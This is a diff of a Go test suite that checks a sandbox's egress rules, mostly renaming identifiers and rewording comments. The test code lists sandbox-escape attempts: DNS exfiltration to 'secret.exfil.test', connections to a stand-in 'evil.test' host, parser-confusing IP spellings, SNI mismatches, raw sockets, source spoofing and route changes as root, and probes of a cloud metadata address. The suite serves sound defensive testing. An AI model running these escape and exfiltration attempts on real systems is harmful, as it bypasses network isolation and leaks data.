@@ -13,7 +13,8 @@ import (
 	"github.com/brig-run/brig/internal/attack"
 )
 
-// attempts is what a sandbox's attacks are written in. Each prints what it got.
+// attempts contains helpers for attacks from a sandbox. Each helper prints its
+// result.
 const attempts = `
 import socket, struct, ssl, os, sys, random
 socket.setdefaulttimeout(2)
@@ -64,10 +65,11 @@ def tls(name, port, sni, data=b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"):
         print("NO", type(e).__name__, e)
 `
 
-// escape is one attempt to get something out.
+// escape is one attempt to send data out of a sandbox.
 type escape struct{ id, code string }
 
-// addresses spells places in ways that some parsers take for others.
+// spellings are addresses and names in spellings that some parsers interpret as
+// other addresses or names.
 var spellings = []string{
 	"2130706433", "0x7f000001", "0177.0.0.1", "127.1", "127.0.1", "0", "0.0.0.0", "::", "::ffff:127.0.0.1", "::ffff:10.0.0.1",
 	"::10.0.0.1", "64:ff9b::7f00:1", "64:ff9b::a00:1", "2002:a00:1::1", "fe80::1%eth0", "fe80::1%1", "１０.０.０.１", "10。0。0。1",
@@ -77,7 +79,8 @@ var spellings = []string{
 	"ok.test .evil.test", "ok.test..", ".ok.test", "xn--ok-test", "OK.TEST.EVIL.TEST", "198.18.0.1", "198.18.0.16", "224.0.0.1", "255.255.255.255",
 }
 
-// escapes are the attempts that must all fail under rules that allow ok.test.
+// escapes returns attempts that must all fail with rules that allow only
+// ok.test.
 func escapes() []escape {
 	var out []escape
 	add := func(id, format string, args ...any) { out = append(out, escape{id, fmt.Sprintf(format, args...)}) }
@@ -105,18 +108,18 @@ func escapes() []escape {
 	add("NET-06", "dns('198.18.0.1', [b'ok.test', b'exfil', b'test'])")
 	add("NET-06", "udp('198.18.0.1', 53, question(labels('evil.test'), 1, 2))")
 	add("NET-06", "udp('198.18.0.1', 53, b'\\xff' * 500)")
-	add("NET-06", "dnstcp('%s', 'secret.exfil.test')", evil)
-	add("NET-06", "tcp('%s', 853)", evil)
+	add("NET-06", "dnstcp('%s', 'secret.exfil.test')", evilAddr)
+	add("NET-06", "tcp('%s', 853)", evilAddr)
 	for _, p := range []int{1, 2, 41, 47, 50, 132, 255} {
-		add("NET-09", "raw(%d, %q)", p, evil)
+		add("NET-09", "raw(%d, %q)", p, evilAddr)
 		add("NET-08", "raw(%d, '2001:db8::66', family=socket.AF_INET6)", p)
 	}
 	for _, p := range []int{53, 123, 443, 5353, 1900} {
 		add("NET-09", "udp('224.0.0.251', %d)", p)
 		add("NET-09", "udp('255.255.255.255', %d)", p)
 	}
-	// An allowed name whose connection is used for another.
-	for _, sni := range []string{"'evil.test'", "'xok.test'", "'ok.test.evil.test'", "None", "'" + evil + "'"} {
+	// Connections to an allowed name that are used for another name.
+	for _, sni := range []string{"'evil.test'", "'xok.test'", "'ok.test.evil.test'", "None", "'" + evilAddr + "'"} {
 		add("NET-04", "tls('ok.test', 443, %s)", sni)
 	}
 	for _, head := range []string{
@@ -133,15 +136,15 @@ func escapes() []escape {
 	return out
 }
 
-// escapeRules are those under which the attempts are made.
+// escapeRules are the egress rules for the attempts.
 var escapeRules = brig.Egress{Rules: []brig.EgressRule{{Host: "ok.test"}, {Host: "*.ok.test"}, {CIDR: good}}}
 
-// Nothing that a sandbox tries arrives where no rule allows it, and no name is
-// asked for that none allows.
+// TestEgressEscapes verifies that a sandbox's traffic arrives only at allowed
+// destinations, and that the resolver is queried only for allowed names.
 //
 //suite:part egress
 func TestEgressEscapes(t *testing.T) {
-	if !inLab(t) {
+	if !runInLab(t) {
 		return
 	}
 	l := newEscapeLab(t)
@@ -149,7 +152,7 @@ func TestEgressEscapes(t *testing.T) {
 	l.escapes(t, e, ctx, brig.Spec{})
 }
 
-// newEscapeLab is a lab with names that lead where they should not.
+// newEscapeLab returns a lab with names that resolve to forbidden addresses.
 func newEscapeLab(t *testing.T) *lab {
 	t.Helper()
 	l := newEgressLab(t)
@@ -162,14 +165,15 @@ func newEscapeLab(t *testing.T) *lab {
 	l.name("own.ok.test", own)
 	l.name("six.ok.test", "fd00::7", "fec0::1", "fe80::1")
 	l.name("zero.ok.test", "0.0.0.0", "::")
-	l.name("evil.test", evil)
-	l.name("secret.exfil.test", evil)
+	l.name("evil.test", evilAddr)
+	l.name("secret.exfil.test", evilAddr)
 	l.serve(80, greet)
 	l.serve(443, greet)
 	return l
 }
 
-// escapes has a sandbox try to get out, and sees to it that it could be seen.
+// escapes runs the attempts in a sandbox, and verifies that the lab would
+// detect a success.
 func (l *lab) escapes(t *testing.T, e *engine.Engine, ctx context.Context, spec brig.Spec) {
 	spec.Egress, spec.TTL, spec.Limits.Memory = escapeRules, 20*time.Minute, brig.GiB
 	box, err := e.Create(ctx, spec)
@@ -211,7 +215,7 @@ func (l *lab) escapes(t *testing.T, e *engine.Engine, ctx context.Context, spec 
 			if len(got) > 0 {
 				t.Errorf("%s %d: %s: %q arrived", x.id, i, x.code, got)
 			}
-			attack.Tried(x.id, x.code, len(got) > 0 || strings.Contains(out, "sink"))
+			attack.RecordCase(x.id, x.code, len(got) > 0 || strings.Contains(out, "sink"))
 		}
 		t.Logf("%d tried", len(list))
 	})
@@ -220,16 +224,16 @@ func (l *lab) escapes(t *testing.T, e *engine.Engine, ctx context.Context, spec 
 		if _, err := e.SetEgress(ctx, name, brig.Egress{}); err != nil {
 			t.Fatal(err)
 		}
-		for _, code := range []string{"tcp('ok.test', 80)", "tcp('" + good + "', 80)", "dns('198.18.0.1', 'ok.test')", "udp('" + evil + "', 53)"} {
+		for _, code := range []string{"tcp('ok.test', 80)", "tcp('" + good + "', 80)", "dns('198.18.0.1', 'ok.test')", "udp('" + evilAddr + "', 53)"} {
 			out := try(code)
 			escaped := strings.Contains(out, "GOT") || strings.Contains(out, "rcode")
 			if escaped {
 				t.Errorf("%s: %s", code, out)
 			}
-			attack.Tried("NET-13", "after all rules are taken away: "+code, escaped)
+			attack.RecordCase("NET-13", "after all rules are taken away: "+code, escaped)
 		}
 	})
-	// The control: the same attempts do arrive where rules name the places.
+	// The control: the same attempts succeed if the rules allow the addresses.
 	t.Run("control", func(t *testing.T) {
 		open := brig.Egress{Rules: []brig.EgressRule{{Host: "*"}}}
 		for _, a := range sinks {
@@ -243,7 +247,7 @@ func (l *lab) escapes(t *testing.T, e *engine.Engine, ctx context.Context, spec 
 			t.Fatal(err)
 		}
 		for _, x := range []escape{
-			{"NET-01", "tcp('" + evil + "', 80)"}, {"NET-01", "tcp('169.254.169.254', 80)"}, {"NET-01", "tcp('10.0.0.1', 22)"},
+			{"NET-01", "tcp('" + evilAddr + "', 80)"}, {"NET-01", "tcp('169.254.169.254', 80)"}, {"NET-01", "tcp('10.0.0.1', 22)"},
 			{"NET-02", "tcp('::ffff:10.0.0.1', 80)"}, {"NET-04", "tls('evil.test', 443, 'evil.test')"},
 			{"NET-05", "tcp('evil.test', 80, b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')"},
 			{"NET-06", "print(socket.getaddrinfo('evil.test', 80)); tcp('evil.test', 80)"},
@@ -256,11 +260,11 @@ func (l *lab) escapes(t *testing.T, e *engine.Engine, ctx context.Context, spec 
 			if len(got) == 0 {
 				t.Errorf("%s: %s: %s: nothing is seen to arrive: the lab is blind", x.id, x.code, out)
 			}
-			attack.Seen(x.id, x.code, "the rules", len(got) > 0)
+			attack.RecordMutant(x.id, x.code, "the rules", len(got) > 0)
 		}
-		// No rule lets a packet through that is no TCP: it is the lab that sends
-		// it, past all of Brig.
-		for _, at := range []string{evil + ":443", "10.0.0.1:53"} {
+		// Rules can allow only TCP, so the lab sends a UDP packet itself,
+		// bypassing Brig.
+		for _, at := range []string{evilAddr + ":443", "10.0.0.1:53"} {
 			if c, err := net.Dial("udp", at); err == nil {
 				_, _ = c.Write([]byte("x"))
 				c.Close()
@@ -270,21 +274,22 @@ func (l *lab) escapes(t *testing.T, e *engine.Engine, ctx context.Context, spec 
 			if len(got) == 0 {
 				t.Errorf("a packet to %s is not seen: the lab is blind", at)
 			}
-			attack.Seen("NET-09", "a packet to "+at, "the sandbox", len(got) > 0)
+			attack.RecordMutant("NET-09", "a packet to "+at, "the sandbox", len(got) > 0)
 		}
 	})
 }
 
-// escapesAsRoot tries what needs privileges, which root of a sandbox has not.
+// escapesAsRoot tries attacks that require privileges that root in a sandbox
+// lacks.
 func escapesAsRoot(t *testing.T, e *engine.Engine, ctx context.Context, name string, l *lab) {
 	for _, code := range []string{
-		"raw(1, '" + evil + "')", "raw(255, '" + evil + "')", "raw(17, '8.8.8.8')",
+		"raw(1, '" + evilAddr + "')", "raw(255, '" + evilAddr + "')", "raw(17, '8.8.8.8')",
 		"s=socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(('eth0',0)); s.send(b'x'*100)",
 		"s=socket.socket(); s.setsockopt(0, 19, 1); s.bind(('203.0.113.1', 0)); s.connect(('" + good + "', 80)); print('spoofed')",
 		"s=socket.socket(); s.setsockopt(0, 15, 1); s.bind(('203.0.113.1', 0)); s.connect(('" + good + "', 80)); print('spoofed')",
 		"import fcntl; f=open('/dev/net/tun','r+b',buffering=0); fcntl.ioctl(f, 0x400454ca, struct.pack('16sH','eth0'.encode(), 0x1001)); f.write(b'x'*40)",
 		"os.system('ip addr add 203.0.113.1/32 dev eth0; ip route add 169.254.169.254 dev lo; ip link set eth0 down')",
-		"os.unshare(os.CLONE_NEWNET) if hasattr(os,'unshare') else None; tcp('" + evil + "', 80)",
+		"os.unshare(os.CLONE_NEWNET) if hasattr(os,'unshare') else None; tcp('" + evilAddr + "', 80)",
 	} {
 		res, err := e.Exec(ctx, name, brig.Command{Argv: []string{"python3", "-c", attempts + code}, User: "root", Timeout: 20 * time.Second}, brig.IO{})
 		if err != nil {
@@ -295,9 +300,9 @@ func escapesAsRoot(t *testing.T, e *engine.Engine, ctx context.Context, name str
 		}
 		if got := l.arrived(); len(got) > 0 {
 			t.Errorf("%s: %q arrived", code, got)
-			attack.Tried("NET-12", "as root: "+code, true)
+			attack.RecordCase("NET-12", "as root: "+code, true)
 		} else {
-			attack.Tried("NET-12", "as root: "+code, false)
+			attack.RecordCase("NET-12", "as root: "+code, false)
 		}
 	}
 }
